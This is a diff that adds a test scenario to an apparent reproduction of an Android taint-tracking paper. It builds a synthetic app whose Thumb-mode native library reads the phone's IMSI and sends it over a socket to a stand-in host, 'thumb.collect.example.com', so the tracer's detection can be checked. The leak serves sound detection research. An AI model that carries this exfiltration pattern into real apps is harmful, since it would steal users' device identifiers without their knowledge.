@@ -1,0 +1,86 @@
+"""A case-2 leak whose native library is **Thumb** code.
+
+The paper's instruction tracer handles 55 Thumb instructions alongside
+the 101 ARM ones (Section V.C); this scenario compiles its entire native
+half in the 16-bit Thumb encoding, so the leak's whole native path —
+parameter pickup, JNI calls through the env table, libc calls through the
+literal pool, the final ``send`` — runs in Thumb state and is tracked by
+the Thumb side of Table V.
+"""
+
+from __future__ import annotations
+
+from repro.apps.base import Scenario
+from repro.common.taint import TAINT_IMSI
+from repro.dalvik.classes import ClassDef, MethodBuilder
+from repro.framework.apk import Apk
+from repro.jni.slots import jni_offset
+
+CLASS_NAME = "Lcom/cases/ThumbApp;"
+DESTINATION = "thumb.collect.example.com:80"
+
+
+def build() -> Scenario:
+    """Build the Thumb-native case-2 scenario."""
+    cls = ClassDef(CLASS_NAME)
+    cls.add_method(MethodBuilder(CLASS_NAME, "exfil", "VL", static=True,
+                                 native=True).build())
+    main = MethodBuilder(CLASS_NAME, "main", "V", static=True, registers=4)
+    main.const_string(0, "libthumb.so")
+    main.invoke_static("Ljava/lang/System;->loadLibrary", 0)
+    main.invoke_static(
+        "Landroid/telephony/TelephonyManager;->getSubscriberId")
+    main.move_result_object(1)
+    main.invoke_static(f"{CLASS_NAME}->exfil", 1)
+    main.ret_void()
+    cls.add_method(main.build())
+
+    get_chars = jni_offset("GetStringUTFChars")
+    native = f"""
+    .thumb
+    Java_com_cases_ThumbApp_exfil:   ; r0=env, r1=jclass, r2=jstring
+        push {{r4, r5, r6, lr}}
+        mov r4, r0
+        ; chars = GetStringUTFChars(env, jstring, NULL)
+        ldr r3, [r4]
+        ldr r3, [r3, #{get_chars}]
+        mov r1, r2
+        mov r2, #0
+        blx r3
+        mov r5, r0
+        ; fd = socket(AF_INET, SOCK_STREAM)
+        mov r0, #2
+        mov r1, #1
+        ldr r3, =socket
+        blx r3
+        mov r6, r0
+        ; connect(fd, dest)
+        ldr r1, =dest
+        ldr r3, =connect
+        blx r3
+        ; n = strlen(chars)
+        mov r0, r5
+        ldr r3, =strlen
+        blx r3
+        mov r2, r0
+        ; send(fd, chars, n, 0)
+        mov r0, r6
+        mov r1, r5
+        mov r3, #0
+        ldr r7, =send
+        blx r7
+        pop {{r4, r5, r6, pc}}
+    .align 2
+    dest:
+        .asciz "thumb.collect.example.com:80"
+    """
+    apk = Apk(package="com.cases.thumbapp", category="Tools", classes=[cls],
+              native_libraries={"libthumb.so": native},
+              load_library_calls=["libthumb.so"])
+    return Scenario(
+        name="case2_thumb", apk=apk, case="2",
+        expected_taint=TAINT_IMSI,
+        expected_destination="thumb.collect.example.com",
+        taintdroid_alone_detects=False,
+        description="Case-2 leak with the native half compiled to Thumb: "
+                    "the 16-bit side of Table V tracks the flow")
